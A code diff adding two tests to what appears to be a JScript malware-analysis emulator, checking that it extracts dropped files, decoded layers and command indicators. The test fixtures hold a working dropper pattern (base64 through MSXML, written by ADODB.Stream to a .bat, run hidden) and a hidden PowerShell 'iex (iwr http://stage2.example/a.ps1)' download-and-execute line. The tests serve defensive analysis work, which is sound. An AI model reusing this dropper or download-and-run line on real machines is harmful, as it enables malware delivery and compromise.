@@ -186,3 +186,39 @@ test('a dropper that picks its URLs at random picks the same ones on every run',
   assert.equal(a.length, 3);
   assert.deepEqual(a, b);
 });
+
+test('base64 through an XML DOM element, written by ADODB.Stream, becomes the dropped file it decodes to', async () => {
+  const payload = '@echo off\r\nstart powershell -nop -w hidden -c "iex (iwr http://stage2.example/a.ps1)"\r\n';
+  const source = `
+    var el = new ActiveXObject("MSXML2.DOMDocument").createElement("tmp");
+    el.dataType = "bin.base64"; el.text = "${Buffer.from(payload).toString('base64')}";
+    var s = new ActiveXObject("ADODB.Stream"); s.Type = 1; s.Open(); s.Write(el.nodeTypedValue);
+    s.SaveToFile("C:\\\\Users\\\\Public\\\\go.bat", 2); s.Close();
+    new ActiveXObject("Shell.Application").ShellExecute("C:\\\\Users\\\\Public\\\\go.bat", "", "", "open", 0);
+    new ActiveXObject("WScript.Shell").Exec("cmd /c whoami").StdOut.ReadAll();
+  `;
+  const r = await run('b64.js', source);
+  const dropped = r.artifacts.find((a) => a.relation === 'dropped-file');
+  assert.equal(dropped?.name, 'go.bat');
+  assert.equal(dropped?.size, payload.length);
+  const commands = r.iocs.filter((i) => i.type === 'command').map((i) => i.value);
+  assert.deepEqual(commands.sort(), ['C:\\Users\\Public\\go.bat', 'cmd /c whoami']);
+  assert.ok(r.findings.some((f) => f.id === 'jscript.dropper.download-and-run') === false, 'nothing was downloaded');
+});
+
+test('code passed to setTimeout, Function and document.write is a decoded layer of its own', async () => {
+  const layer = (n: number) => `var sh${n} = new ActiveXObject("WScript.Shell"); sh${n}.Run("cmd /c layer${n}");`;
+  const source = `
+    setTimeout(${JSON.stringify(layer(1))}, 100);
+    var f = new Function("a", ${JSON.stringify(layer(2))}); f(1);
+    document.write(${JSON.stringify(layer(3))});
+  `;
+  const r = await run('layers.js', source);
+  const decoded = r.artifacts.filter((a) => a.relation === 'decoded' && a.kind === 'jscript');
+  assert.equal(decoded.length, 3);
+  // The first two run inside the script; what document.write wrote runs when its own layer is analysed.
+  const commands = r.iocs.filter((i) => i.type === 'command');
+  assert.deepEqual(commands.map((i) => i.value).sort(), ['cmd /c layer1', 'cmd /c layer2', 'cmd /c layer3']);
+  const written = decoded.find((a) => a.name.startsWith('document-write'))!;
+  assert.equal(commands.find((i) => i.value === 'cmd /c layer3')!.artifact, written.id);
+});
